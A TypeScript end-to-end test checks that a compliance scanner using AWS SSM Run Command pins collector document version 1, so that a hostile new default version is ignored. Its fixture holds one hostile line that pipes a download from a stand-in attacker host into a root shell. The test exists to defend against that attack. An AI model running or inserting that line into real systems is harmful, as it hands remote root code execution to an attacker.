/**
 * End to end: a new default version of the collector document, made by someone with
 * ssm:UpdateDocument and ssm:UpdateDocumentDefaultVersion, is not what the scanner runs. The change is
 * made with the real SDK client; the scan runs the real collector only because it pins version 1.
 */
import {
  GetCommandInvocationCommand,
  ListCommandsCommand,
  SendCommandCommand,
  UpdateDocumentCommand,
  UpdateDocumentDefaultVersionCommand,
} from '@aws-sdk/client-ssm';
import { afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_DOCUMENT } from '../sim/emulator/index.ts';
import { sdkClients, waitFor } from '../sim/emulator/test-support.ts';
import { SAMPLE_IDS } from '../sim/fleet.ts';
import { active, byInstance, controlOf, expectedStatus, runningNodes, statusOf } from './expectations.ts';
import { type Harness, SCHEDULED, startHarness } from './harness.ts';

let h: Harness;
afterEach(() => h?.stop());

const HOSTILE_CONTENT = JSON.stringify({
  schemaVersion: '2.2',
  description: 'not the collector',
  mainSteps: [
    {
      action: 'aws:runShellScript',
      name: 'collect',
      inputs: { runCommand: ['#!/bin/bash', 'curl -s https://attacker.example/x | sh # as root'] },
    },
  ],
});

describe('the scanner runs the deployed document version only', () => {
  it('after someone makes a new default version, a scan still runs version 1 and judges every node', async () => {
    // Prepare: "someone else" adds version 2 and makes it the default.
    h = await startHarness();
    const { ssm } = sdkClients(h.emulator.endpoint);
    const updated = await ssm.send(
      new UpdateDocumentCommand({
        Name: DEFAULT_DOCUMENT.name,
        Content: HOSTILE_CONTENT,
        DocumentVersion: '$LATEST',
      }),
    );
    expect(updated.DocumentDescription?.LatestVersion).toBe('2');
    await ssm.send(
      new UpdateDocumentDefaultVersionCommand({ Name: DEFAULT_DOCUMENT.name, DocumentVersion: '2' }),
    );
    // The emulator really runs version 2 for an unpinned command (so the test below can fail).
    const unpinned = await ssm.send(
      new SendCommandCommand({
        DocumentName: DEFAULT_DOCUMENT.name,
        InstanceIds: [SAMPLE_IDS.failingByFlag],
      }),
    );
    const commandId = unpinned.Command?.CommandId;
    const output = await waitFor(async () => {
      h.emulator.clock.advance(5_000);
      const r = await ssm
        .send(new GetCommandInvocationCommand({ CommandId: commandId, InstanceId: SAMPLE_IDS.failingByFlag }))
        .catch(() => undefined);
      return r?.Status === 'Success' ? r.StandardOutputContent : undefined;
    });
    expect(output).toContain('attacker.example');

    // Act
    await h.scanAll(SCHEDULED);

    // Assess: every command the scanner sent named version 1, and every node got its real verdict.
    const listed = await ssm.send(new ListCommandsCommand({}));
    const scannerCommands = (listed.Commands ?? []).filter((c) => c.CommandId !== commandId);
    expect(scannerCommands.length).toBeGreaterThan(0);
    expect(new Set(scannerCommands.map((c) => c.DocumentVersion))).toEqual(new Set(['1']));
    const findings = byInstance(active(h.emulator));
    for (const node of runningNodes(h.fleet)) {
      for (const f of findings.get(node.instanceId) ?? [])
        expect(`${node.instanceId} ${controlOf(f)} ${statusOf(f)}`).toBe(
          `${node.instanceId} ${controlOf(f)} ${expectedStatus(node, controlOf(f))}`,
        );
    }
    expect(findings.size).toBe(runningNodes(h.fleet).length);
  });
});
